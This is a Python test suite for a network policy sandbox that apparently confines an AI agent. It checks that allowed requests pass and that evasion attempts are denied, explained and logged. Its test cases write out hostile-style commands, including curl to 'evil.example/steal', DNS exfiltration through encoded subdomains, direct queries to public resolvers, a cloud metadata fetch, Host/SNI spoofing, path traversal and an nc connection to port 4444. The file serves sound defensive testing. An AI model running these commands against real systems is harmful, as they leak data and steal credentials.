"""What an agent tries from inside a real guest, what it is told, what the upstream saw, and the row that is left."""

import dataclasses

from tests.support.house import HouseTest, Shell

CURL = "curl -sS --max-time 20 -w '\\n%{http_code}\\n'"


@dataclasses.dataclass
class Case:
    name: str
    command: str
    row: dict                # columns of the row that must be written
    told: list[str]          # what the agent reads
    code: int | None = None  # exit code of the command, where it matters


CASES = [
    Case("an allowed GET", f"{CURL} https://api.demo.test/v1/status",
         {"table": "net_events", "verdict": "allow", "rule_id": "read", "channel": "https", "method": "GET",
          "host": "api.demo.test", "path": "/v1/status", "port": 443},
         ["hello from api.demo.test/v1/status", "200"], code=0),
    Case("an allowed POST", f"{CURL} -d note=1 https://api.demo.test/created",
         {"table": "net_events", "verdict": "allow", "rule_id": "write", "method": "POST", "path": "/created"},
         ["created", "201"], code=0),
    Case("an allowed GET in HTTP/2", f"{CURL} --http2 -w 'HTTP/%{{http_version}}\\n' https://api.demo.test/v1/two",
         {"table": "net_events", "verdict": "allow", "rule_id": "read", "path": "/v1/two"}, ["hello from", "HTTP/2"], code=0),
    Case("a host no rule names", f"{CURL} https://evil.example/steal",
         {"table": "dns_events", "verdict": "deny", "rule_id": "default-deny", "name": "evil.example",
          "rcode": "NXDOMAIN"},
         ["Could not resolve host"], code=6),
    Case("a path no rule names on an allowed host", f"{CURL} https://api.demo.test/admin/keys",
         {"table": "net_events", "verdict": "deny", "rule_id": "default-deny", "path": "/admin/keys"},
         ["403", "default-deny"]),
    Case("a path a rule denies", f"{CURL} https://api.demo.test/v1/secret/x",
         {"table": "net_events", "verdict": "deny", "rule_id": "no-secrets", "path": "/v1/secret/x"},
         ["403", "no-secrets"]),
    Case("dot segments that would lead to another path", f"{CURL} --path-as-is https://api.demo.test/v1/../admin/keys",
         {"table": "net_events", "verdict": "deny", "rule_id": "path.ambiguous"}, ["403", "path.ambiguous"]),
    Case("a method no rule names", f"{CURL} -X DELETE https://api.demo.test/v1/status",
         {"table": "net_events", "verdict": "deny", "rule_id": "default-deny", "method": "DELETE"}, ["403"]),
    Case("a raw address over TLS", f"{CURL} -k https://93.184.216.34/",
         {"table": "net_events", "verdict": "deny", "rule_id": "address.unknown", "address": "93.184.216.34"},
         ["403", "address.unknown"]),
    Case("a raw IPv6 address", f"{CURL} -k 'https://[2606:4700::1111]/'",
         {"table": "net_events", "verdict": "deny", "rule_id": "address.unknown", "address": "2606:4700::1111"},
         ["403", "address.unknown"]),
    Case("the metadata service", f"{CURL} http://169.254.169.254/latest/meta-data/",
         {"table": "net_events", "verdict": "deny", "rule_id": "address.unknown", "address": "169.254.169.254",
          "channel": "http"},
         ["403", "address.unknown"]),
    Case("plain HTTP to a denied host", f"{CURL} --resolve evil.example:80:93.184.216.34 http://evil.example/",
         {"table": "net_events", "verdict": "deny", "rule_id": "address.unknown", "channel": "http"},
         ["403", "address.unknown"]),
    Case("plain HTTP where only HTTPS is allowed", f"{CURL} http://api.demo.test/v1/status",
         {"table": "net_events", "verdict": "deny", "rule_id": "default-deny", "channel": "http",
          "host": "api.demo.test"}, ["403", "default-deny"]),
    Case("an odd port", f"{CURL} https://api.demo.test:8443/v1/status",
         {"table": "net_events", "verdict": "deny", "rule_id": "default-deny", "port": 8443}, ["403", "default-deny"]),
    Case("a Host that is not the SNI", f"{CURL} -H 'Host: other.demo.test' https://api.demo.test/v1/status",
         {"table": "net_events", "verdict": "deny", "rule_id": "name.mismatch"}, ["421", "name.mismatch"]),
    Case("an SNI that is not the name dialled",
         f"{CURL} --connect-to other.demo.test:443:api.demo.test:443 https://other.demo.test/v1/status",
         {"table": "net_events", "verdict": "deny", "rule_id": "name.mismatch", "sni": "other.demo.test"},
         ["403", "name.mismatch"]),
    Case("a name that carries data out", "dig +tries=1 +time=5 $(printf '%060d' 7).$(printf '%050d' 9).exfil.example A",
         {"table": "dns_events", "verdict": "deny", "rule_id": "default-deny",
          "name": f"{7:060d}.{9:050d}.exfil.example"},
         ["status: NXDOMAIN", "EDE", "default-deny"]),
    Case("a query straight to a public resolver", "dig @8.8.8.8 +tries=1 +time=5 leak.example TXT",
         {"table": "dns_events", "verdict": "deny", "rule_id": "default-deny", "name": "leak.example", "type": "TXT"},
         ["status: NXDOMAIN", "8.8.8.8#53"]),
    Case("a query over TCP to a public resolver", "dig @1.1.1.1 +tcp +tries=1 +time=5 tcp-leak.example A",
         {"table": "dns_events", "verdict": "deny", "name": "tcp-leak.example"}, ["status: NXDOMAIN"]),
    Case("a protocol that is neither TLS nor HTTP", "printf '\\001\\002binary' | nc -w 5 api.demo.test 4444; true",
         {"table": "net_events", "verdict": "deny", "rule_id": "protocol.unknown", "channel": "tcp", "port": 4444}, []),
]


class Requests(HouseTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        policy = cls.house.policy({
            "http": [
                {"id": "read", "action": "allow", "hosts": ["api.demo.test"], "methods": ["GET", "HEAD"],
                 "paths": ["/v1/**", "/files/**"]},
                {"id": "write", "action": "allow", "hosts": ["api.demo.test"], "methods": ["POST"],
                 "paths": ["/created"]},
                {"id": "other", "action": "allow", "hosts": ["other.demo.test"]},
                {"id": "no-secrets", "action": "deny", "hosts": ["api.demo.test"], "paths": ["/v1/secret/**"]},
            ],
            "resolve": cls.resolve(),
        })
        cls.shell = Shell(cls.house, "--policy", policy, "--name", "requests", "--upstream-ca", str(cls.upstream.ca))
        cls.addClassCleanup(cls.shell.close)

    def test_every_attempt_is_judged_told_and_logged(self):
        for case in CASES:
            with self.subTest(case.name):
                rows, requests = len(self.house.audit("requests")), len(self.upstream.requests())
                connections = self.upstream.connections()
                code, output = self.shell.run(case.command)
                for words in case.told:
                    self.assertIn(words, output)
                if case.code is not None:
                    self.assertEqual(code, case.code, output)
                new = self.house.audit("requests")[rows:]
                self.assertTrue([row for row in new if case.row.items() <= row.items()], f"{case.row} not in {new}")
                seen = self.upstream.requests()[requests:]
                if case.row["verdict"] == "allow":
                    self.assertEqual(len(seen), 1, seen)
                else:
                    self.assertEqual(seen, [])
                    self.assertEqual(self.upstream.connections(), connections)

    def test_a_denial_names_rule_and_event(self):
        _, output = self.shell.run("curl -sS -D - https://api.demo.test/admin/keys")
        self.assertIn("application/problem+json", output)
        row = self.rows("requests", table="net_events", path="/admin/keys")[-1]
        self.assertIn(row["event_id"], output)
        self.assertIn("/admin/keys", output)

    def test_a_large_download_arrives_whole(self):
        import hashlib
        import os
        content = os.urandom(8 << 20)
        (self.upstream.directory / "files" / "blob").write_bytes(content)
        _, output = self.shell.run("curl -sS https://api.demo.test/files/blob | sha256sum")
        self.assertIn(hashlib.sha256(content).hexdigest(), output)

    def test_udp_other_than_dns_fails_at_once(self):
        _, output = self.shell.run("python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                                   "s.connect(('93.184.216.34', 123)); s.send(b'x'); s.settimeout(5); s.recv(1)\"")
        self.assertIn("ConnectionRefusedError", output)

    def test_a_service_inside_the_guest_is_reached_without_the_gates(self):
        rows = len(self.house.audit("requests"))
        _, output = self.shell.run("python3 -m http.server -b 127.0.0.1 8000 >/dev/null 2>&1 & "
                                   "for i in $(seq 100); do curl -s http://127.0.0.1:8000/ && break; sleep 0.1; done")
        self.assertIn("Directory listing", output)
        self.assertEqual(len(self.house.audit("requests")), rows)
